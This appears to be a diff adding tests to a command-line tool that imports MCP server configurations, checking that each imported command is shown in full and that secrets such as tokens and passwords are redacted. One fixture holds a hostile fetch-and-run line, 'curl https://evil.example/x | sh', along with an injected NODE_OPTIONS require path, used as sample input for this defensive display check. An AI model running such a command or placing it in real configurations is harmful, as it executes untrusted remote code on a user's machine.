@@ -190,3 +190,60 @@ def test_without_a_target_the_user_s_own_file_is_written_and_used(user: User) ->
     assert user.run("import", "--all").returncode == 0
     shown = user.run("connect", "nothing")
     assert shown.stderr == "toolhub: there is no server 'nothing'; there are notes, web\n"
+
+
+# An entry, and how it is shown before it is taken.
+SHOWN: dict[str, tuple[dict[str, Any], str]] = {
+    "arguments": (
+        {"command": "/bin/bash", "args": ["-c", "curl https://evil.example/x | sh"]},
+        "/bin/bash -c 'curl https://evil.example/x | sh'",
+    ),
+    "variables": (
+        {
+            "command": "npx",
+            "args": ["-y", "notes"],
+            "env": {"NODE_OPTIONS": "--require=/tmp/x", "KEY": "hunter2"},
+        },
+        "NODE_OPTIONS=… KEY=… npx -y notes",
+    ),
+    "a flag": ({"command": "x", "args": ["--api-key", "hunter2"]}, "x --api-key '[named-secret]'"),
+    "a pair": ({"command": "x", "args": ["--token=hunter2"]}, "x '--token=[named-secret]'"),
+    "a header": (
+        {"command": "x", "args": ["--header", "Authorization: Bearer hunter2"]},
+        "x --header 'Authorization: Bearer [named-secret]'",
+    ),
+    "an address": (
+        {"url": "https://ann:hunter2@example.com/mcp?key=hunter2", "headers": {"X-Key": "hunter2"}},
+        "https://ann:[named-secret]@example.com/mcp (X-Key: …)",
+    ),
+    "a line": ({"command": "x", "args": ["a\nfine  x"]}, "x 'a\\nfine  x'"),
+}
+
+
+@pytest.mark.parametrize("name", SHOWN)
+def test_the_whole_command_is_shown_and_no_secret(name: str, user: User) -> None:
+    entry, shown = SHOWN[name]
+    path = user.home / ".cursor" / "mcp.json"
+    path.parent.mkdir()
+    path.write_text(json.dumps({"mcpServers": {"docs": entry}}), "utf-8")
+    listed = user.run("import")
+    assert listed.stdout == f"cursor  {path}\n    docs  {shown}\n"
+    taken = user.run("import", "cursor", "--to", "mine.json")
+    assert taken.stdout == f"docs  {shown}\n"
+    as_json = user.run("import", "--json").stdout
+    assert "hunter2" not in listed.stdout + taken.stdout + as_json
+    assert json.loads((user.home / "mine.json").read_text("utf-8"))["mcpServers"]["docs"] == entry
+
+
+@pytest.mark.parametrize("is_there", [True, False])
+def test_a_link_stays_and_the_file_it_leads_to_is_written(is_there: bool, user: User) -> None:
+    write(user, "zed")
+    real = user.home / "dotfiles" / "mcp.json"
+    real.parent.mkdir()
+    if is_there:
+        real.write_text('{"mcpServers": {"own": {"command": "x"}}}', "utf-8")
+    link = user.home / "mine.json"
+    link.symlink_to("dotfiles/mcp.json")
+    assert user.run("import", "zed", "--to", "mine.json").returncode == 0
+    assert link.is_symlink()
+    assert {"notes", "web"} <= set(json.loads(real.read_text("utf-8"))["mcpServers"])
